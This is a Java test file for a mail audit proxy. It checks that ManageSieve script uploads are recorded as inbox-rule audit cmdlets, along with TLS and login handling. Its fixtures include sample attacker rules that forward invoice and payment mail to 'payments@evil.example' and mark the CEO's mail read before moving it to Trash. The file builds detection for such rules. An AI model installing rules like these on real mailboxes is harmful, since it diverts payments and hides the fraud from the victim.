package dev.mailtrail.proxy.net;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mailtrail.core.action.MailboxAction;
import dev.mailtrail.core.cmdlet.AuditCmdlets;
import dev.mailtrail.core.config.AuditConfiguration;
import dev.mailtrail.core.config.OrganizationConfig;
import dev.mailtrail.core.event.CmdletInvocation;
import dev.mailtrail.proxy.dovecot.DovecotInstance;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The real ManageSieve client {@code sieve-connect} through the proxy to a real Dovecot Pigeonhole: each script
 * change the server accepts is an inbox-rule cmdlet, rule by rule; a script it refuses is the same cmdlet refused.
 */
class ManageSieveClientsTest {

    static final String FORWARD = """
            require ["copy"];
            # rule:[Invoices out]
            if header :contains "subject" ["invoice", "payment"] {
                redirect :copy "payments@evil.example";
                stop;
            }
            """;
    static final String FORWARD_AND_HIDE = """
            require ["copy", "fileinto", "imap4flags"];
            # rule:[Invoices out]
            if header :contains "subject" ["invoice", "payment", "wire"] {
                redirect :copy "payments@evil.example";
                stop;
            }
            # rule:[Hide replies]
            if address :is "from" "ceo@mailtrail.test" {
                addflag "\\\\Seen";
                fileinto "Trash";
            }
            """;

    @TempDir
    Path dir;

    ManageSieveHarness h;
    RecordingAuditSink sink;
    DovecotInstance dovecot;

    @BeforeEach
    void start() throws Exception {
        h = new ManageSieveHarness(dir);
        sink = h.sink;
        dovecot = h.dovecot;
    }

    @AfterEach
    void stop() {
        if (h != null) {
            h.close();
        }
    }

    @Test
    void eachAcceptedChangeIsAnInboxRuleCmdletAgainstTheRulesInForce() throws Exception {
        Files.writeString(dir.resolve("forward.sieve"), FORWARD);
        Files.writeString(dir.resolve("forward2.sieve"), FORWARD_AND_HIDE);
        String out = sieveConnect(
                "list",
                "upload forward.sieve forward",
                "activate forward",
                "upload forward2.sieve forward",
                "deactivate",
                "delete forward");

        List<CmdletInvocation> cmdlets = sink.awaitCmdlets(7, Duration.ofSeconds(10));
        List<String> lines = cmdlets.stream().map(CmdletInvocation::command).toList();
        assertThat(lines.get(0))
                .as(out)
                .startsWith(
                        "New-InboxRule -Mailbox 'alice' -Name 'Invoices out'"
                                + " -SubjectContainsWords 'invoice','payment' -ForwardTo 'payments@evil.example'"
                                + " -StopProcessingRules $true -ExternalRecipients 'payments@evil.example' -SieveRule 'if header")
                .endsWith("-Enabled $false -SieveScript 'forward'");
        assertThat(lines.get(1)).startsWith("Enable-InboxRule -Mailbox 'alice' -Identity 'Invoices out'");
        assertThat(lines.get(2))
                .startsWith("New-InboxRule -Mailbox 'alice' -Name 'Hide replies' -From 'ceo@mailtrail.test'"
                        + " -MarkAsRead $true -MoveToFolder 'Trash'");
        assertThat(lines.get(3))
                .startsWith("Set-InboxRule -Mailbox 'alice' -Identity 'Invoices out'"
                        + " -SubjectContainsWords 'invoice','payment','wire'");
        assertThat(lines.subList(4, 6)).allMatch(l -> l.startsWith("Disable-InboxRule -Mailbox 'alice' -Identity '"));
        assertThat(lines.get(6)).startsWith("Remove-InboxRule -Mailbox 'alice' -Identity 'Invoices out'");
        assertThat(cmdlets)
                .allMatch(c -> c.actor().equals("alice")
                        && c.session().clientIp().equals("127.0.0.1")
                        && c.session().clientInfo().equals("Client=ManageSieve"));
        assertThat(sink.events())
                .anyMatch(e -> e.operation() == MailboxAction.MAILBOX_LOGIN
                        && e.mailbox().equals("alice"));
        AuditConfiguration core = new AuditConfiguration(OrganizationConfig.defaults());
        assertThat(lines)
                .allSatisfy(line -> assertThat(AuditCmdlets.run(core, line).succeeded())
                        .as(line)
                        .isTrue());
    }

    @Test
    void aScriptTheServerRefusesIsTheSameCmdletRefused() throws Exception {
        Files.writeString(
                dir.resolve("broken.sieve"), "if header :contains \"subject\" \"x\" { forwrd \"a@b.example\"; }\n");
        try {
            sieveConnect("upload broken.sieve broken");
        } catch (AssertionError expected) {
            // sieve-connect exits non-zero when the server refuses the script
        }
        List<CmdletInvocation> cmdlets = sink.awaitCmdlets(1, Duration.ofSeconds(10));
        assertThat(cmdlets.getFirst().command())
                .startsWith("New-InboxRule -Mailbox 'alice' -Name 'broken' -SieveRule 'if header")
                .contains("-ServerError 'NO ");
    }

    @Test
    void sieveConnectStartsTlsWithTheProxyAndLogsIn() throws Exception {
        Files.writeString(dir.resolve("forward.sieve"), FORWARD);
        String out = sieveConnectTo("sieve-starttls", "upload forward.sieve forward", "list");
        assertThat(out).contains("forward");
        assertThat(sink.awaitCmdlets(1, Duration.ofSeconds(10)).getFirst().command())
                .startsWith("New-InboxRule -Mailbox 'alice' -Name 'Invoices out'");
    }

    @Test
    void theProxysOwnTlsWithTheServerStaysBetweenThemAndTheClientSeesOneCapabilityList() throws Exception {
        h.close();
        h = new ManageSieveHarness(Files.createDirectories(dir.resolve("tls-upstream")), true);
        sink = h.sink;
        dovecot = h.dovecot;
        Files.writeString(dir.resolve("forward.sieve"), FORWARD);
        try (LineClient c = new LineClient(h.port("sieve"))) {
            String greeting = c.until("OK");
            assertThat(greeting).doesNotContain("STARTTLS").contains("\"SIEVE\"");
            c.send("NOOP");
            assertThat(c.line()).startsWith("OK");
        }
        sieveConnect("upload forward.sieve forward");
        assertThat(sink.awaitCmdlets(1, Duration.ofSeconds(10)).getFirst().command())
                .startsWith("New-InboxRule");
    }

    @Test
    void behindWebmailARuleTakesTheAddressTheSameUsersImapLoginWasNamed() throws Exception {
        try (LineClient c = new LineClient(h.port("imap-trusted"))) {
            c.until("* OK");
            c.send("a ID (\"name\" \"Roundcube Webmail\" \"x-originating-ip\" \"203.0.113.66\")");
            c.until("a ");
            c.send("b LOGIN alice " + DovecotInstance.PASSWORD);
            assertThat(c.until("b ")).contains("b OK");
            c.send("c LOGOUT");
            c.until("c ");
        }
        Files.writeString(dir.resolve("forward.sieve"), FORWARD);
        sieveConnectTo("sieve-trusted", "upload forward.sieve forward");
        sieveConnectTo("sieve", "upload forward.sieve other");
        List<CmdletInvocation> cmdlets = sink.awaitCmdlets(2, Duration.ofSeconds(10));
        assertThat(cmdlets.get(0).session().clientIp()).isEqualTo("203.0.113.66");
        assertThat(cmdlets.get(1).session().clientIp())
                .as("a listener that trusts no one takes no one's word")
                .isEqualTo("127.0.0.1");
    }

    @Test
    void aClientFromAfarMayNotLogInInPlaintextAndIsOfferedStartTls() throws Exception {
        try (LineClient c = new LineClient(h.port("sieve-lb"))) {
            c.send("PROXY TCP4 203.0.113.7 127.0.0.1 50000 4190");
            String greeting = c.until("OK");
            assertThat(greeting).contains("\"STARTTLS\"").contains("\"SASL\" \"\"");
            c.send("AUTHENTICATE \"PLAIN\" \"AGFsaWNlAFNlY3JldDEyMw==\"");
            assertThat(c.line()).isEqualTo(ManageSieveRelay.PRIVACY_REQUIRED);
            c.send("AUTHENTICATE \"PLAIN\" {24+}\r\nAGFsaWNlAFNlY3JldDEyMw==");
            assertThat(c.line()).isEqualTo(ManageSieveRelay.PRIVACY_REQUIRED);
            c.send("CAPABILITY");
            assertThat(c.until("OK")).contains("\"STARTTLS\"").doesNotContain("PLAIN");
            c.send("LOGOUT");
            assertThat(c.line()).startsWith("OK");
        }
        assertThat(sink.events()).isEmpty();
    }

    private String sieveConnect(String... commands) throws Exception {
        return sieveConnectTo("sieve", commands);
    }

    private String sieveConnectTo(String listener, String... commands) throws Exception {
        Path script = dir.resolve("commands-" + System.nanoTime());
        Files.writeString(script, String.join("\n", commands) + "\n");
        List<String> command = new ArrayList<>(List.of(
                "sieve-connect",
                "--nosrv",
                "--server",
                "127.0.0.1",
                "--port",
                String.valueOf(h.port(listener)),
                "--user",
                "alice",
                "--passwordfd",
                "0",
                "--notlsverify",
                "--exec",
                script.toString()));
        try {
            return ProxyHarness.run(dir, DovecotInstance.PASSWORD + "\n", command.toArray(String[]::new));
        } catch (AssertionError e) {
            throw new AssertionError(
                    e.getMessage() + "\ncmdlets: " + sink.cmdlets() + "\nDovecot log:\n" + dovecot.log(), e);
        }
    }
}
